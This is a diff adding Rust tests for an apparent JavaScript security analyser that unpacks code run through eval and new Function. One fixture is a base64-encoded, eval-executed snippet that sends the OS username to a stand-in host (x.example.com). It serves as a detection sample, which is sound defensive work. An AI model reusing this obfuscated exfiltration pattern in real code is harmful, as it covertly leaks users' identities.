@@ -157,3 +157,56 @@ fn file_read_at_home_path_is_not_the_home_directory() {
         net.createConnection({ host: cfg.host, port: cfg.port });");
     assert!(f.flows.is_empty(), "{:#?}", f.flows);
 }
+
+#[test]
+fn constant_code_passed_to_eval_is_analysed_as_nested_source() {
+    let f = run(r#"const p = Buffer.from("cmVxdWlyZSgiaHR0cHMiKS5nZXQoImh0dHBzOi8veC5leGFtcGxlLmNvbS8/dT0iICsgcmVxdWlyZSgib3MiKS51c2VySW5mbygpLnVzZXJuYW1lKQ==", "base64").toString(); eval(p);"#);
+    assert_eq!(f.nested.len(), 1, "{:#?}", f.diagnostics);
+    let inner = &f.nested[0];
+    assert_eq!(inner.facts.file, "t.js › eval#1");
+    assert!(inner.facts.flows.iter().any(|fl| fl.kinds.contains(DataKind::Username)), "{:#?}", inner.facts.flows);
+    // Locations index the nested code.
+    let flow = &inner.facts.flows[0];
+    assert!(inner.text[flow.span.start as usize..].starts_with("require(\"https\").get"));
+    assert!(f.obfuscations.iter().any(|o| o.technique.contains("code run by eval")));
+}
+
+#[test]
+fn function_constructor_body_is_the_last_argument() {
+    let f = run(r#"const g = new Function("a", "return require('os').hostname() + a"); g(1);"#);
+    assert_eq!(f.nested.len(), 1);
+    assert!(f.nested[0].facts.sources.iter().any(|s| s.kind == DataKind::Hostname));
+}
+
+#[test]
+fn nested_eval_depth_is_bounded() {
+    // Each level evals a string holding the next level.
+    let mut code = String::from("require('os').hostname();");
+    for _ in 0..8 {
+        code = format!("eval({});", serde_json_escape(&code));
+    }
+    let f = run(&code);
+    let depth = f.nested.iter().map(|n| n.facts.file.matches("eval#").count()).max().unwrap_or(0);
+    assert!(depth <= 4, "depth {depth}");
+    let all_diags: Vec<&String> = std::iter::once(&f.diagnostics).chain(f.nested.iter().map(|n| &n.facts.diagnostics)).flatten().collect();
+    assert!(all_diags.iter().any(|d| d.contains("nesting or size limit")), "{all_diags:?}");
+}
+
+#[test]
+fn short_or_non_code_strings_are_not_nested_sources() {
+    let f = run(r#"eval("x"); setTimeout("hello there, world!!", 10);"#);
+    assert!(f.nested.is_empty(), "{:#?}", f.nested.iter().map(|n| &n.text).collect::<Vec<_>>());
+}
+
+fn serde_json_escape(s: &str) -> String {
+    let mut out = String::from("\"");
+    for c in s.chars() {
+        match c {
+            '"' => out.push_str("\\\""),
+            '\\' => out.push_str("\\\\"),
+            c => out.push(c),
+        }
+    }
+    out.push('"');
+    out
+}
